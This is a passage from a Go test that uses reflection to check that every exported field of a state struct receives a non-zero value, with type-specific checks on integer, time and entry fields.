		if !f.IsExported() {
			continue
		}
		switch f.Type {
		case reflect.TypeFor[state.Claimed](), reflect.TypeFor[state.Contacts]():
			continue // claiming gives them values
		}
		if f.Name == "Logins" || f.Name == "Turns" {
			continue // they decide, and are not shown: TestKindHandsOn
		}
		if v.Field(i).IsZero() {
			t.Errorf("%s: nothing gives %s a value: do so, and say which field shows it", what, f.Name)
		}
		switch x := v.Field(i).Interface().(type) {
		case int64:
			note(f.Name, x)
		case event.Time:
			note(f.Name, int64(x))
		case [3]int64:
			for j, n := range x {
				note(fmt.Sprint(f.Name, j), n)
			}
		case law.Bottom:
			for _, e := range x.Entries() {
				if e.First > 1 && e.First == e.Last {
					t.Errorf("%s: %s: %q was seen at one moment only", what, f.Name, e.Key)
				}
			}
		}
	}
}
